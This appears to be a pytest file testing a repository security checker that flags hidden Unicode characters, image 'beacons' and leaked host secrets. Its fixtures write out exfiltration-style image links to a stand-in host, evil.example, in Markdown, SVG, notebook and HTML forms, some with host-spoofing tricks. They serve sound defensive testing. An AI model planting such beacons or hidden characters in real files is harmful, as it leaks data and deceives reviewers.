"""What must not be published although it is harmless to run: hidden text, beacons, the machine's own secrets."""

from dataclasses import replace

import pytest

from core.runs import CheckStatus
from tests.worker.checks.subjects import Files, rules, subject
from worker.checks.hostile.known import redactor
from worker.checks.security import check

SECRET = "correct-horse-battery-staple"
EVIL = "https://evil.example/x.png?d=c2VjcmV0"


@pytest.mark.parametrize(
    "line",
    [
        "x = 1  # \u202e",
        "x = '\u200b'",
        "# a\U000e0041\U000e0042",
        "x = 1\x08",
        "a\u2066b",
        "# \ue000",
        "# a\U000e0101",
        "a\xadb",
    ],
)
def test_hidden_characters_fail(line: str) -> None:
    found = check(subject({"a.py": "y = 2\n"}, {"a.py": f"y = 2\n{line}\n"}))
    assert found.status is CheckStatus.FAILED
    assert "hidden-characters" in rules(found.findings)


@pytest.mark.parametrize(
    "text",
    [
        "# ✔\ufe0f done\n",
        "# 1\ufe0f\u20e3\n",
        "# 👩\u200d💻\n",
        "# ❤\ufe0f\u200d🔥\n",
        "# می\u200cخواهم\n",
        "# क्\u200dष\n",
        "\ufeffx = 1\r\n",
        "x = 1\f\n",
    ],
)
def test_what_a_script_or_an_emoji_needs_passes(text: str) -> None:
    assert "hidden-characters" not in rules(check(subject({}, {"a.py": text})).findings)


def test_hidden_characters_that_were_there_stay() -> None:
    old = "x = '\u200b'\n"
    assert check(subject({"a.py": old}, {"a.py": f"{old}y = 2\n"})).status is CheckStatus.PASSED


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("README.md", f"![x]({EVIL})\n"),
        ("README.md", f"![x](<{EVIL}>)\n"),
        ("README.md", f"![x][1]\n\n[1]: {EVIL}\n"),
        ("README.md", f'<img alt="x"\n src="{EVIL}">\n'),
        ("README.md", "![x](//evil.example/x.png)\n"),
        ("README.md", "![x](https://img.shields.io@evil.example/x.png)\n"),
        ("README.md", "![x](https://img.shields.io.evil.example/x.png)\n"),
        ("docs/a.rst", f".. image:: {EVIL}\n"),
        ("a.svg", f'<svg><image href="{EVIL}"/></svg>\n'),
        ("a.svg", f'<svg><style>a {{ background: url("{EVIL}") }}</style></svg>\n'),
        ("a.ipynb", '{"source": ["![x](https://evil.example/x.png)"]}\n'),
        ("page.html", f'<img src="{EVIL}">\n'),
    ],
)
def test_beacons_fail(path: str, text: str) -> None:
    found = check(subject({}, {path: text}))
    assert found.status is CheckStatus.FAILED
    assert rules(found.findings) == {"beacon"}


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ({}, {"README.md": "![build](https://img.shields.io/badge/a-b-green?style=flat)\n![x](docs/x.png)\n"}),
        ({}, {"README.md": f"See [the docs](https://docs.example/) and {EVIL}.\n"}),
        ({"README.md": "![x](https://cdn.example/1.png)\n"}, {"README.md": "![x](https://cdn.example/2.png)\n"}),
        ({}, {"page.html": '<script src="https://cdn.example/lib.js"></script>\n'}),
        ({}, {"a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>\n'}),
        ({}, {"a.py": f"URL = '![x]({EVIL})'\n"}),
    ],
)
def test_what_asks_no_stranger_passes(before: Files, after: Files) -> None:
    assert "beacon" not in rules(check(subject(before, after)).findings)


@pytest.mark.parametrize(
    "after",
    [
        {"a.py": f"# {SECRET}\n"},
        {"a.py": f"# {SECRET[7:]}\n"},
        {"a.py": f"# {SECRET[::-1]}\n"},
        {"a.py": "# correct\n# horse\n# battery\n# staple\n"},
        {"README.md": "Y29ycmVjdC1ob3JzZS1iYXR0ZXJ5LXN0YXBsZQ\n"},
        {f"{SECRET}.py": "x = 1\n"},
    ],
)
def test_the_machines_own_secrets_fail(after: Files) -> None:
    found = check(replace(subject({}, after), secrets=redactor([SECRET])))
    assert found.status is CheckStatus.FAILED
    assert SECRET not in str(found)


@pytest.mark.parametrize(
    "secret", ["postgresql+psycopg://pullwright:pw@localhost/pullwright", "short", "redis://h:6379/0"]
)
def test_an_address_is_no_secret_but_its_password(secret: str) -> None:
    line = "engine = open('postgresql+psycopg://pullwright@localhost/pullwright', 'short', 'redis://h:6379/0')\n"
    assert check(replace(subject({}, {"a.py": line}), secrets=redactor([secret]))).status is not CheckStatus.FAILED


def test_the_password_of_an_address_is_found() -> None:
    secrets = redactor([f"postgresql://app:{SECRET}@db/x"])
    assert check(replace(subject({}, {"a.py": f"# {SECRET}\n"}), secrets=secrets)).status is CheckStatus.FAILED
